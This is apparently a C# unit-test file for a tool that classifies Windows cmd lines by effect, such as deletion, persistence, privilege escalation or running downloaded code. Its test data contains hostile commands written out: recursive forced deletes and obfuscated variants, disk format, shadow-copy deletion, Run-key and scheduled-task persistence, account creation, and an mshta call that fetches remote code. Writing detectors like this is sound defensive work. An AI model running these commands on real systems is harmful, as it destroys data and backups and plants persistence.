using Sallyport.Shell;
using Sallyport.Tests.Shell.Code;

namespace Sallyport.Tests.Shell.Cmd;

public class CmdTests
{
    [Theory]
    [InlineData(@"del /f /s /q C:\data", @"Delete -r C:/data")]
    [InlineData(@"rd /s/q ""C:\Program Files\Acme""", @"Delete -r C:/Program Files/Acme")]
    [InlineData(@"d^el C:\x", @"Delete C:/x")]
    [InlineData("set A=d& set B=el& %A%%B% C:\\x", @"Delete C:/x")]
    [InlineData("set A=xdelx& call %A:~1,3% C:\\x", @"Delete C:/x")]
    [InlineData("set A=dQel& %A:Q=% C:\\x", @"Delete C:/x")]
    [InlineData(@"if exist C:\x (del C:\x) else rd C:\y", @"Delete C:/y")]
    [InlineData("for %i in (a b) do del %i", "Delete /home/dev/app/b")]
    [InlineData(@"for /r C:\data %%f in (*.tmp) do del ""%%f""", @"Delete -r C:/data/*")]
    [InlineData(@"cd /d C:\data && del x.txt", @"Delete C:/data/x.txt")]
    [InlineData(@"echo hi > C:\out.txt", @"Truncate C:/out.txt #overwrite")]
    [InlineData("format D: /q /y", "WriteDisk disk:d: #format-volume")]
    [InlineData(@"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v a /d b /f", @"Persist registry:HKCU\Software\Microsoft\Windows\CurrentVersion\Run #registry")]
    [InlineData(@"reg delete HKLM\Software\Acme /f", @"Persist -r registry:HKLM\Software\Acme #registry")]
    [InlineData("schtasks /create /tn Sync /tr calc /sc daily", "Persist task:sync #scheduled-task")]
    [InlineData("vssadmin delete shadows /all /quiet", "ChangeInfrastructure shadow-copies #backup-delete")]
    [InlineData("taskkill /f /im explorer.exe", "Kill explorer.exe")]
    [InlineData("net user guest2 secret /add", "Escalate account:guest2 #account")]
    [InlineData("shutdown /r /t 0", "StopService machine #power")]
    [InlineData(@"cmd /c ""del C:\x""", @"Cmd: del C:\x")]
    [InlineData(@"start """" /b C:\tool.exe -v", @"run C:\tool.exe -v")]
    [InlineData("git status && npm test", "run npm test")]
    [InlineData("mshta http://example.org/a.hta", "ExecuteDownloaded http://example.org/a.hta #mshta")]
    [InlineData("powershell -Command \"Get-Date\"", "run powershell -Command Get-Date")]
    public void Effects(string code, string expected) => CodeProbe.Does(CodeLanguage.Cmd, code, expected);

    [Theory]
    [InlineData(@"echo del C:\x")]
    [InlineData(@"rem del C:\x")]
    [InlineData(@":: del C:\x")]
    [InlineData(@"dir C:\ | findstr format")]
    [InlineData(@"reg query HKLM\Software")]
    [InlineData("schtasks /query")]
    [InlineData("type notes.txt")]
    [InlineData("if \"%1\"==\"del\" echo no")]
    public void Ordinary_lines_do_nothing(string code) => CodeProbe.IsHarmless(CodeLanguage.Cmd, code);
}
